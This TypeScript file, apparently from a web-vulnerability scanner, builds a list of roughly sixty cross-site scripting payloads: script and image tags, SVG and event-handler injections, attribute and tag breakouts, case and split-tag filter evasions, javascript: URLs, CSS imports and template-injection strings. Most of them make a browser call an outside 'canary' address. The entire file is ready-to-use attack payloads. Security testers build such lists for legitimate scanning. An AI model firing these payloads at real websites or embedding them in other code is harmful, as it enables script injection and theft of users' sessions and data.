/**
 * Returns texts that run a script where a page writes them as HTML, as an attribute or as an address. Each asks `canary`, opens a
 * dialog, or both. They fit 100 characters.
 */
export function scriptPayloads(canary: string): string[] {
  const call = `fetch('${canary}')`
  const asks = [
    `<script>${call}</script>`,
    `<ScRiPt >${call}</sCrIpT>`,
    `<script src=${canary}></script>`,
    `<script src=${canary}//`,
    `"><script>${call}</script>`,
    `'><script>${call}</script>`,
    `</title><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `</script><script>${call}</script>`,
    `</style><script>${call}</script>`,
    `--><script>${call}</script>`,
    `]]><script>${call}</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<img src=x onerror="${call}">`,
    `<img src=${canary}>`,
    `<img srcset=${canary}>`,
    `<img/src=x/onerror=${call}>`,
    `<IMG SRC=x oNeRrOr=${call}>`,
    `"><img src=x onerror="${call}">`,
    `'><img src=x onerror=${call}//`,
    `<image src=x onerror="${call}">`,
    `<svg onload="${call}">`,
    `<svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><script href=${canary} /></svg>`,
    `<svg><image href=${canary} /></svg>`,
    `<svg><use href=${canary}#a /></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<math><mtext><img src=x onerror=${call}>`,
    `<body onload=${call}>`,
    `<iframe src=${canary}></iframe>`,
    `<iframe src="javascript:${call}">`,
    `<iframe srcdoc="<script>${call}</script>">`,
    `<object data=${canary}></object>`,
    `<embed src=${canary}>`,
    `<video src=${canary} autoplay></video>`,
    `<video><source onerror=${call}></video>`,
    `<audio src=x onerror=${call}>`,
    `<link rel=stylesheet href=${canary}>`,
    `<style>@import '${canary}';</style>`,
    `<style>*{background:url(${canary})}</style>`,
    `<b style="background:url(${canary})">b</b>`,
    `<meta http-equiv=refresh content="0;url=${canary}">`,
    `<base href=${canary}/>`,
    `<form action=${canary}><button autofocus onfocus=${call}>`,
    `<input autofocus onfocus=${call}>`,
    `" autofocus onfocus=${call} x="`,
    `' onmouseover=${call} x='`,
    `<details open ontoggle=${call}>`,
    `<marquee onstart=${call}>`,
    `<template><img src=x onerror=${call}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `{{constructor.constructor("${call}")()}}`,
    `\${${call}}`,
    `&lt;img src=x onerror=${call}&gt;`,
  ]
  return [...asks, ...shortPayloads]
}

/** The same in at most 30 characters. */
const shortPayloads: readonly string[] = [
  'javascript:alert(1)',
  'data:text/html,<script>alert()',
  '<svg onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  "'-alert(1)-'",
]
